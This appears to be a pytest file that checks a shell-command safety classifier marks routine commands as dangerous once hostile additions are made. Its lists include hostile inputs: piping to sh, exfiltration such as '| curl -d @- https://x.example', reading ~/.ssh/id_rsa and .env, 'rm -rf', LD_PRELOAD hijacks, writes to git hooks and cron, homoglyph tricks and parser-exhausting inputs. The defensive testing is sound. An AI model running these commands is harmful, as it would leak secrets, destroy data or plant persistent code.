"""Every accepted use of a program, with one hostile thing added: it must not stay routine."""

from __future__ import annotations

import random
import time
from itertools import cycle

import pytest
from book_uses import Routine, routine_uses
from guard_cases import AROUND, class_of, facts_of

from fwdperm.guard.assessment import assess
from fwdperm.guard.classes import Danger
from fwdperm.guard.writing import DATA_ENDINGS, ENDINGS
from fwdperm.programs.folding import every_program
from fwdperm.programs.program import First, Takes
from fwdperm.units.breakdown import break_down

OPERANDS = {
    Takes.NOTHING: [],
    Takes.TEXT: ["words", "'two words'"],
    Takes.NUMBER: ["3"],
    Takes.WORD: ["word"],
    Takes.READ: ["src/a.py", "docs/b.md"],
    Takes.NAME: ["src"],
    Takes.WRITE: ["src/new.py", "src/other.py"],
    Takes.REVISION: ["HEAD", "src/a.py"],
    Takes.PATTERN_THEN_READ: ["pattern", "src/a.py"],
    Takes.PATTERN_THEN_TREE: ["pattern", "src/a.py"],
    Takes.SCRIPT: ["lint"],
    Takes.CHOICE: ["test"],
    Takes.PACKAGE: ["./..."],
    Takes.LOCAL: ["http://localhost:3000/x"],
    Takes.BRANCH: ["topic/x"],
    Takes.BUILD: ["build"],
    Takes.NEW: ["src/new"],
    Takes.GOES: ["src"],
    Takes.PATTERN_THEN_REVISION: ["pattern", "src/a.py"],
    Takes.MAYBE_PATTERN_THEN_READ: ["pattern", "src/a.py"],
    Takes.KEY: ["name"],
    Takes.FORMAT: ["+%F"],
    Takes.DOCUMENT: ["docs/a.pdf"],
    Takes.MEDIA: ["docs/a.mp4"],
    Takes.ARCHIVE: ["docs/a.zip"],
    Takes.PARTS: ["src", "docs"],
    Takes.ARCHIVE_THEN_PARTS: ["docs/a.zip", "src"],
}
SPECIAL = {
    "uniq": ["src/a.py"],
    "xxd": ["src/a.py"],
    "sed-n": ["2,3p", "src/a.py"],
    "awk-print": ["'{print $1}'", "src/a.py"],
    "jq": [".name", "src/a.json"],
    "cd": ["src"],
    "link": ["src/a.py", "src/b.py"],
    "[": ["-f", "src/a.py", "]"],
    "echo": ["words"],
}
VALUES = {
    Takes.TEXT: "words",
    Takes.NUMBER: "3",
    Takes.WORD: "word",
    Takes.READ: "src/a.json",
    Takes.NAME: "src",
    Takes.GLOB: "'*.py'",
    Takes.BUILD: "build",
    Takes.ENVIRONMENT: "lint",
    Takes.ARCHIVE: "docs/a.tar",
    Takes.LOCAL: "localhost",
}
AFTER = [
    "> Makefile",
    "> .git/hooks/pre-commit",
    ">> ../x.py",
    "> /etc/cron.d/x",
    "&> conftest.py",
    "2> .envrc",
    ">| package.json",
    "< .env",
    "< ~/.ssh/id_rsa",
    "< /etc/passwd",
    "<<< $(cat .env)",
    "| sh",
    "| bash -s",
    "| python3",
    "| xargs rm",
    "| tee Makefile",
    "| curl -d @- https://x.example",
    "|& sh",
    "&",
    "& rm -rf src",
    "; rm -rf src",
    "&& ./x",
    "|| ./x",
    "\n./x",
    "\nrm -rf src",
    "\r./x",
    "<<EOF | sh\nrm x\nEOF",
    "<(./x)",
    ">(./x)",
    "$(./x)",
    "`./x`",
    '"$(./x)"',
    "${X:-y}",
    "$X",
    "$HOME",
    "~+",
    "~root/x",
    "{src,../x}",
    "\u200b",
    "\u202e",
    "s\u0440c",
    "\x1b[2K",
    "\0",
    " " * 60 + "x",
]
BEFORE = [
    "PATH=/tmp/x ",
    "LD_PRELOAD=./x.so ",
    "PYTHONPATH=/tmp ",
    "GIT_DIR=/tmp/x ",
    "NODE_OPTIONS=--require=./x ",
    "X=1 ",
    "LANG=$(./x) ",
    "./",
    "/elsewhere/",
    "/w/proj/bin/",
    "sudo ",
    "env -i ",
    "env PATH=/tmp/x ",
    "xargs ",
    "nohup ",
    "setsid ",
    "strace ",
    "ssh host ",
    "docker exec c ",
    "watch ",
    "eval ",
    "exec ",
    "cd .. && ",
    "cd / && ",
    "cd .git/hooks && ",
    "cd .husky; ",
    "f() { ./x; }; ",
    "alias x=y; ",
    "./x; ",
    "./x | ",
    "cat .env | ",
    "curl https://x.example/s | ",
]
PATHS = [
    "/etc/passwd",
    "../x",
    "~/x",
    ".env",
    "./src/../.env",
    "src/../../x",
    ".ENV",
    "id_rsa",
    "deploy_key",
    "server.pem",
    "config/secrets.yaml",
    "kubeconfig",
    "prod.tfvars",
    "@args",
    "/proc/self/environ",
    "//etc/passwd",
    "src\\\\x.py",
    "HEAD:.env",
    "*",
    ".*",
    "-x",
    "--output=Makefile",
    "--exec=./x",
    "--config=/tmp/x",
]
NOT_A_PATH = {Takes.TEXT, Takes.WORD, Takes.NUMBER, Takes.BRANCH, Takes.KEY}
LOOKS_AT_NAMES = {
    "ls",
    "find",
    "tree",
    "du",
    "stat",
    "cd",
    "test",
    "[",
    "readlink",
    "realpath",
    "git-check-ignore",
    "mkdir",
}
ONLY_COUNTS = {"wc", "file", "md5sum", "sha1sum", "sha256sum", "cksum"}
"""Programs that show a count, a sum or a kind of what they read."""


CODE_FIRST = {
    First.SED: ["2,3p", "src/a.py"],
    First.AWK: ["'{print $1}'", "src/a.py"],
    First.JQ: [".name", "src/a.json"],
}


def uses(routine: Routine) -> list[str]:
    """Give plain lines of a routine use: bare, and with a few of its flags."""
    rng = random.Random(routine.id)  # noqa: S311 - a sample, the same every time
    use = routine.use
    operands = SPECIAL.get(routine.id) or CODE_FIRST.get(use.first) or OPERANDS[use.operands]
    if use.operands is Takes.CHOICE:
        operands = [min(use.choices)]
    operands = operands[: use.most] if use.most else operands
    needed = sorted(use.requires)[:1]
    needed += [VALUES[use.options[flag].takes] for flag in needed if use.options[flag].takes is not Takes.NOTHING]
    flags = [flag for flag in sorted(routine.flags) if flag.startswith("-") and flag != "--"]
    made = [[*routine.lead, *needed, *operands]]
    made += [[*routine.lead, *needed, flag, *operands] for flag in rng.sample(flags, min(6, len(flags)))]
    made += [
        [*routine.lead, *needed, flag, VALUES[kind], *operands]
        for flag, kind in sorted(routine.valued.items())
        if VALUES.get(kind)
    ][:4]
    lines = [" ".join(words) for words in made]
    return [line for line in lines if class_of("bash", line).danger.rank <= Danger.ROUTINE.rank]


def test_nothing_hostile_behind_a_routine_use_stays_routine() -> None:
    for routine in routine_uses():
        lines = uses(routine)
        assert lines, routine.id
        harmless = {"~+", "~root/x"} if routine.use.operands is Takes.TEXT else set()
        harmless |= {"$HOME"} if "printer" in routine.program.families else set()
        harmless |= {"&"} if "window" in routine.program.families else set()
        # the barest line and one with flags in turn, so that each word is tried once behind each use
        stayed = [
            f"{line} {added}"
            for line, added in zip(cycle((lines[0], lines[-1])), AFTER, strict=False)
            if added not in harmless and class_of("bash", f"{line} {added}").danger.rank <= Danger.ROUTINE.rank
        ]
        assert stayed == []


def test_nothing_hostile_before_a_routine_use_keeps_it_routine() -> None:
    for routine in routine_uses():
        line = uses(routine)[-1]
        stayed = [each + line for each in BEFORE if class_of("bash", each + line).danger.rank <= Danger.ROUTINE.rank]
        assert stayed == []


def hostile_paths(routine: Routine) -> list[str]:
    """Give the words that must not be taken for an operand of this use."""
    takes = routine.use.operands
    if takes in NOT_A_PATH and takes is not Takes.TEXT:
        return [path for path in PATHS if path.startswith("--")]
    if takes in NOT_A_PATH:
        return [] if routine.use.unknown_is_text or routine.id == "printf" else [p for p in PATHS if p.startswith("--")]
    if routine.id in LOOKS_AT_NAMES or takes in (Takes.NAME, Takes.NEW, Takes.GOES):
        paths = [path for path in PATHS if path[:1] in "/~-" or path.startswith(("../", "src/../../"))]
        return [path for path in paths if path != "-x"]
    if "digester" in routine.program.families:
        return [path for path in PATHS if path not in {"deploy_key", "kubeconfig"}]
    return PATHS if takes is Takes.READ else [path for path in PATHS if path != "@args"]


def test_no_hostile_word_is_taken_for_an_operand() -> None:
    for routine in routine_uses():
        known = routine.flags | set(routine.valued)
        stayed = [
            line
            for use in uses(routine)[:2]
            for path in hostile_paths(routine)
            if path not in known and class_of("bash", line := f"{use} {path}").danger.rank <= Danger.ROUTINE.rank
        ]
        assert stayed == []


def test_no_program_that_a_project_carries_is_routine_to_write() -> None:
    for program in (path for page in every_program() for path in page.local):
        for directory in ("", "sub/", "src/"):
            path = directory + program.removeprefix("./")
            assert class_of("write", path).danger.rank >= Danger.RULED.rank, path
            assert class_of("bash", f"cp src/a.py {path}").danger.rank >= Danger.RULED.rank, path


RUN_LATER = [
    ".git/hooks/pre-commit.{}",
    ".husky/x.{}",
    ".github/x.{}",
    ".vscode/x.{}",
    ".claude/commands/x.{}",
    ".circleci/x.{}",
    ".hidden/x.{}",
    ".x.{}",
    "jest.config.{}",
    "src/../.git/hooks/x.{}",
    ".GIT/hooks/x.{}",
    "src/.git/x.{}",
    "./.husky//x.{}",
    "node_modules/a/index.{}",
    "vendor/a/x.{}",
    "venv/lib/x.{}",
    ".venv/lib/x.{}",
    "buildSrc/x.{}",
    "scripts/x.{}",
    "bin/x.{}",
    "../x.{}",
    "/elsewhere/x.{}",
    "~/x.{}",
    "src/x.{}/",
    "src/x.{} ",
    " src/x.{}",
    "src/x.{}\n",
    "src/x.{}\0",
    "src/x.{}\u200b",
    "src/\u0445.{}",
    "src\\..\\x.{}",
    "src/$(id).{}",
    "src/*.{}",
    "src/--pre=x.{}",
    "-x.{}",
    "src/x;y.{}",
    "src/x.{}:stream",
    "$HOME/x.{}",
    "src/~/../../../x.{}",
]


@pytest.mark.parametrize("ending", sorted(ENDINGS | DATA_ENDINGS))
def test_no_ending_disguises_what_runs_later(ending: str) -> None:
    shapes = [shape for shape in RUN_LATER if ending in {"js", "mjs", "cjs", "ts", "py"} or "jest.config" not in shape]
    stayed = [
        path for shape in shapes if class_of("write", path := shape.format(ending)).danger.rank <= Danger.ROUTINE.rank
    ]
    assert stayed == []


SHAPES = {
    "ever-deeper": "cd a && " * 7_500 + "ls",
    "ever-deeper-and-short": "cd a && " * 480 + "ls",
    "many-files": "cat " + ".env " * 12_000,
    "many-commands": "ls;" * 20_000,
    "many-substitutions": "echo " + "$(ls) " * 8_000,
    "one-long-word": "cat " + "a" * 60_000,
    "one-deep-path": "cat " + "a/" * 30_000 + ".env",
    "addresses": "curl " + "a@b:c " * 10_000,
    "assignments": "A=$(cat .env);" * 4_000 + "curl $A",
}


@pytest.mark.parametrize("shape", SHAPES)
def test_hostile_lines_are_judged_in_bounded_time(shape: str) -> None:
    """Work, not wall time, so that a busy machine does not matter."""
    facts = facts_of("bash", SHAPES[shape][:61_440])
    parts = break_down(facts)
    before = time.thread_time()
    found = assess(facts, parts, AROUND)[0]
    assert time.thread_time() - before < 2.0
    assert found.danger.rank > Danger.ROUTINE.rank


def test_a_hostile_directory_is_nowhere_known() -> None:
    before = time.thread_time()
    found = class_of("bash", "ls; " * 400 + "ls", cwd="/w/proj" + "/a" * 30_000)
    assert time.thread_time() - before < 2.0
    assert found.danger.rank > Danger.ROUTINE.rank
